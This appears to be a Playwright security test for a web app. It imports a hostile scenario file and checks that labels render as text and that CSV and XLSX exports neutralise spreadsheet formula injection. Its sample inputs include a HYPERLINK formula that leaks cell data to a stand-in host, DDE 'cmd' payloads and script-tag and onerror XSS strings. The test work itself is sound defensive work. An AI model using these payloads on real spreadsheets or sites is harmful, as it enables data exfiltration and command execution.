/**
 * A hostile scenario file (issue 8), imported through the Library page like any file from a
 * colleague's mail. Its text is rendered as text (no HTML, no script runs), and its labels cannot
 * inject formulas into the finance exports: every text cell that begins with =, +, -, @, tab or
 * carriage return is neutralised with a leading ', while numbers stay numbers (negative ones too).
 */
import { readFile } from 'node:fs/promises';
import { expect, test, type Page } from '@playwright/test';
import { strFromU8, unzipSync } from 'fflate';
import {
  FORMULA,
  NUMBER,
  SCREENS,
  collectErrors,
  parseCsv,
  runStatus,
  smallScenario,
  waitForRun,
  xlsxCells,
} from './helpers.ts';

const TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';
const HTML_LEVER = '<img src=x onerror="window.__pwned=1">';
const HTML_VARIANT = '<script>window.__pwned=2</script>';
const HTML_DESCRIPTION = '<img src=x onerror="window.__pwned=3"><script>window.__pwned=4</script>';
const FORMULA_LEVER = "=1+1+cmd|' /C calc'!A0";
/** Compared variants, each label starting with one of the characters spreadsheets act on. */
const HOSTILE_VARIANTS = [
  { id: 'plus', label: "+cmd|' /C calc'!A0" },
  { id: 'minus', label: "-2+3+cmd|' /C calc'!A0" },
  { id: 'at', label: "@SUM(1+1)*cmd|' /C calc'!A0" },
  { id: 'tab', label: '\t=1+1' },
  { id: 'cr', label: '\r=1+1' },
] as const;

function hostileScenario() {
  const scenario = smallScenario();
  scenario.id = 'hostile';
  scenario.title = TITLE;
  scenario.description = HTML_DESCRIPTION;
  const template = scenario.variants[0]!;
  scenario.variants = [
    ...HOSTILE_VARIANTS.map((v) => ({ ...template, ...v, description: HTML_DESCRIPTION })),
    { ...template, id: 'html', label: HTML_VARIANT, description: '@SUM(1)' },
  ];
  // Three levers are enough (and keep the tornado sweep short).
  scenario.levers = scenario.levers.slice(0, 3);
  scenario.levers[0]!.label = HTML_LEVER;
  scenario.levers[0]!.description = HTML_DESCRIPTION;
  scenario.levers[1]!.label = FORMULA_LEVER;
  scenario.levers[1]!.unit = '-agents';
  return scenario;
}

async function importFile(page: Page, name: string, content: unknown) {
  await page.locator('#scenario-file').setInputFiles({
    name,
    mimeType: 'application/json',
    buffer: Buffer.from(JSON.stringify(content, null, 2)),
  });
}

/** Neutralised: the text of a hostile label as the export must write it. */
const safe = (text: string) => `'${text}`;

test('a hostile scenario renders as text and exports finance-safe CSV and XLSX', async ({
  page,
}) => {
  test.setTimeout(90_000);
  const errors = await collectErrors(page);
  await page.goto('/library');

  // Ids cannot carry formulas at all: the schema allows letters, digits, _ and - only.
  await importFile(page, 'hostile-id.json', { ...hostileScenario(), id: '=cmd|A0' });
  const alert = page.locator('.import-errors');
  await expect(alert).toContainText('hostile-id.json was not imported');
  await expect(
    alert.locator('tr', { has: page.locator('th[scope="row"]', { hasText: /^id$/ }) }),
  ).toContainText('=cmd|A0');

  await importFile(page, 'hostile.json', hostileScenario());
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Workbench');

  // Rendered literally, as text.
  await expect(page.locator('header .scenario-name')).toContainText(TITLE);
  await expect(page.locator('label[for="lever-0-range"]')).toContainText(HTML_LEVER);
  await expect(page.locator('label[for="lever-1-range"]')).toContainText(FORMULA_LEVER);
  await expect(page.locator('#variant-picker option[value="html"]')).toHaveText(HTML_VARIANT);
  await expect(page.locator('.picker p')).toHaveText(HTML_DESCRIPTION);
  await waitForRun(page, 'Live estimate');
  const injected = await page.evaluate(() => ({
    pwned: (window as unknown as { __pwned?: unknown }).__pwned,
    images: document.querySelectorAll('img').length,
    scripts: [...document.scripts].filter((s) => s.textContent?.includes('__pwned')).length,
  }));
  expect(injected).toEqual({ pwned: undefined, images: 0, scripts: 0 });
  await page.screenshot({ path: `${SCREENS}/hostile-workbench.png` });

  // A lever change, so the audit stamp's "Lever changes" cell starts with the formula label.
  const chat = page.locator('#lever-1-number');
  await chat.fill('12');
  await chat.press('Enter');
  await expect(page.locator('#lever-1-range')).toHaveValue('12');

  await page
    .getByRole('navigation', { name: 'Main' })
    .getByRole('link', { name: 'ROI case' })
    .click();
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('ROI case');
  const roi = runStatus(page, 'ROI run');

  let negativeNumbers = 0;
  for (const variant of HOSTILE_VARIANTS) {
    const sequence = Number(await roi.getAttribute('data-run-sequence'));
    if ((await page.locator('#roi-variant').inputValue()) !== variant.id) {
      await page.locator('#roi-variant').selectOption(variant.id);
      await expect
        .poll(async () => Number(await roi.getAttribute('data-run-sequence')))
        .toBeGreaterThan(sequence);
    }
    await waitForRun(page, 'ROI run');
    const expected = [safe(`${TITLE} (hostile)`), safe(variant.label)];

    const [csvDownload] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'Export CSV' }).click(),
    ]);
    const rows = parseCsv(await readFile((await csvDownload.path())!, 'utf8'));
    const fields = rows.flat();
    for (const field of fields) {
      // A field a spreadsheet would act on is a plain number, or it is not there at all.
      if (FORMULA.test(field)) expect(field, `CSV field ${JSON.stringify(field)}`).toMatch(NUMBER);
    }
    for (const text of expected) expect(fields).toContain(text);
    expect(fields.some((f) => f.startsWith(safe(FORMULA_LEVER)))).toBe(true);
    negativeNumbers += fields.filter((f) => NUMBER.test(f) && f.startsWith('-')).length;

    const [xlsxDownload] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'Export XLSX' }).click(),
    ]);
    const files = unzipSync(new Uint8Array(await readFile((await xlsxDownload.path())!)));
    const texts: string[] = [];
    for (let i = 1; i <= 4; i++) {
      for (const cell of xlsxCells(strFromU8(files[`xl/worksheets/sheet${i}.xml`]!))) {
        expect(cell.formula, `sheet${i}!${cell.ref} holds no formula`).toBe(false);
        if (cell.type === 's') {
          expect(cell.value, `sheet${i}!${cell.ref}`).not.toMatch(FORMULA);
          texts.push(cell.value);
        } else {
          expect(cell.value, `sheet${i}!${cell.ref} is a number`).toMatch(NUMBER);
          if (cell.value.startsWith('-')) negativeNumbers += 1;
        }
      }
    }
    for (const text of expected) expect(texts).toContain(text);
    expect(texts.some((t) => t.startsWith(safe(FORMULA_LEVER)))).toBe(true);
  }
  // Numbers stay numbers: the losses of the first year are negative numeric cells, not text.
  expect(negativeNumbers).toBeGreaterThan(0);
  await page.screenshot({ path: `${SCREENS}/hostile-roi.png`, fullPage: true });

  expect(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned)).toBe(
    undefined,
  );
  expect(errors).toEqual([]);
});
